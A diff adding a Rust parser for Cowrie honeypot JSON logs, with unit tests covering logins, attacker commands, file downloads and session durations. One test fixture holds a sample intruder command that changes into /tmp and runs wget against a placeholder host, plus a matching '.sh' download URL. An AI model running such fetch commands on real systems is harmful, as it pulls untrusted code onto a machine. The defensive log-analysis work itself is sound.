@@ -1,0 +1,201 @@
+//! Cowrie honeypot JSON lines (`cowrie.json`), old and new releases.
+//!
+//! Events used: `session.connect`, `login.failed`, `login.success`,
+//! `command.input` (and `command.failed`), `session.file_download`,
+//! `session.closed`. Every other event id is known noise. The session length
+//! of `session.closed` comes in three forms: `duration` as float seconds
+//! (old), `duration_ms` as an integer (new), or either as a string.
+
+use std::borrow::Cow;
+use std::net::IpAddr;
+
+use serde::Deserialize;
+
+use super::{parse_ip, syslog, AuthMethod, Event};
+
+/// One Cowrie event, read.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Record<'a> {
+    /// The event id, e.g. `cowrie.login.success`.
+    pub event_id: Cow<'a, str>,
+    /// Event time, unix milliseconds (Cowrie writes UTC).
+    pub ts_ms: Option<i64>,
+    /// Cowrie's session id: keys the session.
+    pub session: Option<Cow<'a, str>>,
+    /// Attacker address.
+    pub ip: Option<IpAddr>,
+    /// `ssh` or `telnet`, when the event says.
+    pub protocol: Option<Cow<'a, str>>,
+    /// What it means.
+    pub event: Event<'a>,
+}
+
+#[derive(Deserialize)]
+#[serde(untagged)]
+enum Number<'a> {
+    Float(f64),
+    #[serde(borrow)]
+    Text(Cow<'a, str>),
+}
+
+impl Number<'_> {
+    fn secs(&self, unit_ms: bool) -> Option<f64> {
+        let (value, ms) = match self {
+            Number::Float(f) => (*f, unit_ms),
+            Number::Text(t) => {
+                let t = t.trim();
+                if let Some(v) = t.strip_suffix("ms") {
+                    (v.trim().parse().ok()?, true)
+                } else if let Some(v) = t.strip_suffix('s') {
+                    (v.trim().parse().ok()?, false)
+                } else {
+                    (t.parse().ok()?, unit_ms)
+                }
+            }
+        };
+        let secs = if ms { value / 1000.0 } else { value };
+        (secs.is_finite() && secs >= 0.0).then_some(secs)
+    }
+}
+
+#[derive(Deserialize)]
+struct Raw<'a> {
+    #[serde(borrow)]
+    eventid: Cow<'a, str>,
+    #[serde(borrow, default)]
+    timestamp: Option<Cow<'a, str>>,
+    #[serde(borrow, default)]
+    session: Option<Cow<'a, str>>,
+    #[serde(borrow, default)]
+    src_ip: Option<Cow<'a, str>>,
+    #[serde(borrow, default)]
+    protocol: Option<Cow<'a, str>>,
+    #[serde(borrow, default)]
+    username: Option<Cow<'a, str>>,
+    #[serde(borrow, default)]
+    input: Option<Cow<'a, str>>,
+    #[serde(borrow, default)]
+    url: Option<Cow<'a, str>>,
+    #[serde(borrow, default)]
+    duration: Option<Number<'a>>,
+    #[serde(borrow, default)]
+    duration_ms: Option<Number<'a>>,
+}
+
+/// Errors reading one Cowrie line.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum CowrieError {
+    /// Not JSON, or no `eventid`.
+    NotCowrie,
+    /// An event this parser does not know (counted by id).
+    UnknownEvent,
+}
+
+/// Parses one Cowrie JSON line.
+pub fn parse(line: &str) -> Result<Record<'_>, CowrieError> {
+    let raw: Raw<'_> = serde_json::from_str(line).map_err(|_| CowrieError::NotCowrie)?;
+    let ts_ms = raw
+        .timestamp
+        .as_deref()
+        .and_then(|t| syslog::parse_rfc3339(t))
+        .map(|(t, _)| t.to_unix_ms(t.year.unwrap_or(1970), 0));
+    let ip = raw.src_ip.as_deref().and_then(parse_ip);
+    let id = raw.eventid.as_ref();
+    let event = match id.strip_prefix("cowrie.").unwrap_or(id) {
+        "session.connect" => ip.map_or(Event::Noise, |ip| Event::Connected { ip }),
+        "login.failed" => Event::AuthFailed { user: raw.username, ip, invalid_user: false, count: 1, tentative: false },
+        "login.success" => {
+            Event::Accepted { user: raw.username.unwrap_or(Cow::Borrowed("")), ip, method: AuthMethod::Password }
+        }
+        "command.input" => match raw.input {
+            Some(input) => Event::Command { user: None, command: input },
+            None => Event::Noise,
+        },
+        "session.file_download" => match raw.url {
+            Some(url) => Event::Download { url },
+            None => Event::Noise,
+        },
+        "session.closed" => Event::SessionClosed {
+            user: None,
+            duration_secs: raw
+                .duration_ms
+                .as_ref()
+                .and_then(|d| d.secs(true))
+                .or_else(|| raw.duration.as_ref().and_then(|d| d.secs(false))),
+        },
+        // command.failed repeats a command.input; the rest describe the client.
+        "command.failed"
+        | "command.success"
+        | "client.version"
+        | "client.kex"
+        | "client.size"
+        | "client.var"
+        | "client.fingerprint"
+        | "direct-tcpip.request"
+        | "direct-tcpip.data"
+        | "log.open"
+        | "log.closed"
+        | "session.params"
+        | "session.file_download.failed"
+        | "session.file_upload"
+        | "session.input"
+        | "telnet.option"
+        | "login.attempt"
+        | "virustotal.scanfile"
+        | "virustotal.scanurl" => Event::Noise,
+        _ => return Err(CowrieError::UnknownEvent),
+    };
+    Ok(Record { event_id: raw.eventid, ts_ms, session: raw.session, ip, protocol: raw.protocol, event })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn reads_the_three_duration_forms() {
+        let old = r#"{"eventid": "cowrie.session.closed", "timestamp": "2018-05-19T00:03:10.120213Z", "src_ip": "145.239.65.62", "duration": 1.2905828952789307, "session": "524e0ff18104"}"#;
+        let new = r#"{"eventid":"cowrie.session.closed","duration_ms":8486,"timestamp":"2026-07-10T01:01:45.568278Z","src_ip":"122.36.187.5","session":"3e69b5b3b281","protocol":"telnet"}"#;
+        let text = r#"{"eventid":"cowrie.session.closed","duration":"12.5","session":"s"}"#;
+        let text_ms = r#"{"eventid":"cowrie.session.closed","duration_ms":"250","session":"s"}"#;
+        let secs = |l| match parse(l).unwrap().event {
+            Event::SessionClosed { duration_secs, .. } => duration_secs,
+            e => panic!("{e:?}"),
+        };
+        assert!((secs(old).unwrap() - 1.29058).abs() < 1e-4);
+        assert_eq!(secs(new), Some(8.486));
+        assert_eq!(secs(text), Some(12.5));
+        assert_eq!(secs(text_ms), Some(0.25));
+        let r = parse(old).unwrap();
+        assert_eq!(r.ts_ms, Some(1_526_688_190_120));
+        assert_eq!(r.session.as_deref(), Some("524e0ff18104"));
+        assert_eq!(
+            parse(r#"{"eventid":"cowrie.session.closed","duration":-3}"#).unwrap().event,
+            Event::SessionClosed { user: None, duration_secs: None }
+        );
+    }
+
+    #[test]
+    fn logins_commands_downloads() {
+        let r = parse(
+            r#"{"eventid":"cowrie.login.success","username":"root","password":"x","src_ip":"1.2.3.4","session":"a"}"#,
+        )
+        .unwrap();
+        assert_eq!(
+            r.event,
+            Event::Accepted { user: "root".into(), ip: "1.2.3.4".parse().ok(), method: AuthMethod::Password }
+        );
+        let r = parse(r#"{"eventid":"cowrie.command.input","input":"cd /tmp; wget http://x/\"a\"","session":"a"}"#)
+            .unwrap();
+        assert_eq!(r.event, Event::Command { user: None, command: "cd /tmp; wget http://x/\"a\"".into() });
+        let r = parse(r#"{"eventid":"cowrie.session.file_download","url":"http://x/a.sh","session":"a"}"#).unwrap();
+        assert_eq!(r.event, Event::Download { url: "http://x/a.sh".into() });
+        assert!(matches!(
+            parse(r#"{"eventid":"cowrie.login.failed","username":"admin","src_ip":"::1"}"#).unwrap().event,
+            Event::AuthFailed { .. }
+        ));
+        assert_eq!(parse(r#"{"eventid":"cowrie.brand.new"}"#), Err(CowrieError::UnknownEvent));
+        assert_eq!(parse("{not json"), Err(CowrieError::NotCowrie));
+        assert_eq!(parse(r#"{"eventid": 3}"#), Err(CowrieError::NotCowrie));
+    }
+}
